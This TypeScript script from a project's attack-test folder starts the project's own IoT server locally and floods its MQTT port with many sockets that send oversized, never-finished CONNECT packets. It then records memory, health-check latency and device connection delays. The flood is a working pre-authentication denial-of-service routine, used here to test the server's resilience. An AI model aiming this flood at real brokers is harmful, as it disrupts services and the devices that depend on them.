// The unauthenticated MQTT attack on a production instance started here as a child process: many
// raw TCP sockets each send a CONNECT fixed header announcing about 1 MiB and a few bytes of body,
// then wait. Prints the process's resident memory (before, peak, after the sockets closed), /healthz
// latency during the attack, and how long a real device waits for its CONNACK meanwhile.
import { spawn } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { type Socket, connect as tcpConnect } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { connectPacket, remainingLength } from '../../bench/load/mqttWire.ts';
import { parseCommandLine, wholeNumber } from '../../src/cli/commandLine.ts';
import { attackAdminPassword, rssOf, startProductionIoc } from './target.ts';

const help = `Tấn công MQTT trước đăng nhập / The MQTT attack before authentication

Usage: npx tsx scripts/attacks/mqtt.ts [options]

Starts the IOC (NODE_ENV=production, plain MQTT, the embedded PostgreSQL in a temporary DATA_DIR)
from --root as a child process, registers one device, then opens --sockets raw TCP connections from
127.0.0.1 that each send a CONNECT header announcing --announce bytes and --body bytes of it, never
the whole packet. Prints
the child's RSS before, at its peak and once every socket has closed (by the server, or by this script
after --hold seconds), /healthz latency during the attack, and a device's CONNACK time during it.

Options
  --root <dir>        the checkout to start (default: this one)
  --sockets <n>       attacking connections (default: 1000)
  --announce <bytes>  remaining length each CONNECT announces (default: 1048570)
  --body <bytes>      bytes of the announced body each socket sends (default: all but 10)
  --hold <s>          longest time a socket is kept open (default: 40)
  --env <KEY=VALUE>   a setting for the IOC, repeatable
  --attack-port <n>   internal: be the attacking process (a process of its own, so that the probes
                      of /healthz and CONNACK are not timed on the attacker's busy event loop)
  -h, --help          this text

Example
  npx tsx scripts/attacks/mqtt.ts --root /tmp/before-mqtt --sockets 1000
`;

const command = 'attacks:mqtt';
const { values } = parseCommandLine(command, help, {
  options: {
    root: { type: 'string', default: resolve(new URL('../../', import.meta.url).pathname) },
    sockets: { type: 'string', default: '1000' },
    announce: { type: 'string', default: '1048570' },
    body: { type: 'string' },
    hold: { type: 'string', default: '40' },
    env: { type: 'string', multiple: true },
    'attack-port': { type: 'string' },
  },
});
const sockets = wholeNumber(command, 'sockets', values.sockets!, 1);
const announce = wholeNumber(command, 'announce', values.announce!, 1);
const body =
  values.body === undefined ? Math.max(0, announce - 10) : wholeNumber(command, 'body', values.body);
const holdMs = wholeNumber(command, 'hold', values.hold!, 1) * 1_000;
const settings = Object.fromEntries((values.env ?? []).map((kv) => kv.split(/=(.*)/s).slice(0, 2)));

if (values['attack-port'] !== undefined) {
  const port = wholeNumber(command, 'attack-port', values['attack-port'], 1);
  // One buffer written to every socket: the attacker's side holds it once.
  const attack = Buffer.concat([Buffer.from([0x10, ...remainingLength(announce)]), Buffer.alloc(body, 0x41)]);
  const started = performance.now();
  const open: Socket[] = [];
  let connected = 0;
  let settled = 0;
  // Every socket connected (or refused before it could): the device's turn.
  const settle = () => {
    if (++settled === sockets) process.stdout.write('connected\n');
  };
  const closed = Array.from(
    { length: sockets },
    () =>
      new Promise<number>((ok) => {
        const socket = tcpConnect({ port, host: '127.0.0.1' });
        open.push(socket);
        socket.on('error', () => {});
        let counted = false;
        const settleOnce = () => {
          if (!counted) settle();
          counted = true;
        };
        socket.once('connect', () => {
          socket.write(attack);
          connected++;
          settleOnce();
        });
        socket.once('close', () => {
          settleOnce();
          ok(performance.now() - started);
        });
      }),
  );
  const holding = setTimeout(() => {
    for (const socket of open) socket.destroy();
  }, holdMs);
  const closedAt = (await Promise.all(closed)).sort((a, b) => a - b);
  clearTimeout(holding);
  process.stdout.write(
    `${JSON.stringify({ connected, median: closedAt[sockets >> 1], last: closedAt.at(-1) })}\n`,
  );
  process.exit(0);
}

const dataDir = await mkdtemp(join(tmpdir(), 'ioc-attack-mqtt-'));
const password = attackAdminPassword;
const target = await startProductionIoc(values.root!, dataDir, { LOG_LEVEL: 'warn', ...settings });
const { child } = target;
const ports = { http: target.httpPort, mqtt: Number(new URL(target.mqtt).port) };
const base = target.http;
const rssMiB = () => rssOf(child.pid!) / 1_048_576;

try {
  const login = await fetch(`${base}/api/v1/auth/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ username: 'admin', password }),
  });
  const { token } = (await login.json()) as { token: string };
  const id = 'tn-attack-env-1';
  const created = await fetch(`${base}/api/v1/devices`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify({
      id,
      kind: 'environment',
      city: 'tay-ninh',
      ward: 'phuong-tan-ninh',
      lat: 11.3,
      lon: 106.1,
      name: id,
    }),
  });
  const secret = ((await created.json()) as { credentials: { secret: string } }).credentials.secret;

  const connackMs = async (): Promise<number | string> => {
    const started = performance.now();
    const socket = tcpConnect({ port: ports.mqtt, host: '127.0.0.1', localAddress: '127.0.0.2' });
    return new Promise((ok) => {
      socket.on('error', (error) => ok(`error ${error.message}`));
      socket.once('connect', () => socket.write(connectPacket(id, id, secret)));
      socket.once('data', (bytes) => {
        socket.destroy();
        ok(bytes[0] === 0x20 && bytes[3] === 0 ? performance.now() - started : `refused ${bytes[3]}`);
      });
      socket.once('close', () => ok('closed without CONNACK'));
    });
  };
  // A first connection pays the secret's hashing once; the one measured during the attack is compared with it.
  const quietConnack = await connackMs();

  const rssBefore = rssMiB();
  let rssPeak = rssBefore;
  const health: number[] = [];
  let attacking = true;
  const sampler = setInterval(() => (rssPeak = Math.max(rssPeak, rssMiB())), 20);
  const probing = (async () => {
    while (attacking) {
      const started = performance.now();
      await fetch(`${base}/healthz`).then((r) => r.arrayBuffer());
      health.push(performance.now() - started);
      await new Promise((r) => setTimeout(r, 50));
    }
  })();

  const attacker = spawn(
    process.execPath,
    [
      '--import',
      'tsx',
      new URL(import.meta.url).pathname,
      ...['--attack-port', String(ports.mqtt), '--sockets', String(sockets), '--announce', String(announce)],
      ...['--body', String(body), '--hold', String(holdMs / 1_000)],
    ],
    { stdio: ['ignore', 'pipe', 'inherit'] },
  );
  let said = '';
  const attackerSays = (what: RegExp) =>
    new Promise<RegExpMatchArray>((ok, fail) => {
      const look = () => {
        const match = said.match(what);
        if (match) ok(match);
      };
      attacker.stdout!.on('data', (d) => {
        said += d;
        look();
      });
      attacker.once('exit', () => {
        look();
        fail(new Error(`the attacker ended: ${said}`));
      });
    });
  const finished = attackerSays(/^(\{.*\})$/m);
  // The device connects once every attacking socket is open and writing.
  await attackerSays(/^connected$/m).catch(() => undefined);
  const attackConnack = await connackMs();
  const closedAt = JSON.parse((await finished)[1]!) as { connected: number; median: number; last: number };
  const rssClosed = rssMiB();
  attacking = false;
  await probing;
  clearInterval(sampler);
  // After a quiet moment: what the process kept.
  await new Promise((r) => setTimeout(r, 5_000));
  const rssLater = rssMiB();

  const sorted = [...health].sort((a, b) => a - b);
  const pct = (p: number) => sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))] ?? 0;
  const ms = (v: number | string) => (typeof v === 'number' ? `${v.toFixed(0)} ms` : v);
  let refusals = '';
  const metrics = settings.METRICS_TOKEN
    ? await fetch(`${base}/metrics`, { headers: { authorization: `Bearer ${settings.METRICS_TOKEN}` } }).then(
        (r) => r.text(),
      )
    : '';
  for (const m of metrics.matchAll(/^ioc_mqtt_refused_total\{reason="(\w+)"\} (\d+)/gm))
    refusals += ` ${m[1]}=${m[2]}`;
  console.info(`root ${values.root}: ${sockets} sockets announcing ${announce} bytes, sending ${body}
RSS: before ${rssBefore.toFixed(0)} MiB, peak ${rssPeak.toFixed(0)} MiB (+${(rssPeak - rssBefore).toFixed(0)}), all closed ${rssClosed.toFixed(0)} MiB, 5 s later ${rssLater.toFixed(0)} MiB
sockets closed: median ${closedAt.median.toFixed(0)} ms, last ${closedAt.last.toFixed(0)} ms after the attack began (${closedAt.connected} connected)
/healthz during the attack: ${health.length} probes, p50 ${pct(50).toFixed(1)} ms, p99 ${pct(99).toFixed(1)} ms, max ${pct(100).toFixed(1)} ms
device CONNACK: quiet ${ms(quietConnack)}, during the attack ${ms(attackConnack)}${refusals ? `\nrefused:${refusals}` : ''}`);
} finally {
  child.kill('SIGTERM');
  await new Promise((r) => child.once('exit', r));
  await rm(dataDir, { recursive: true, force: true });
}
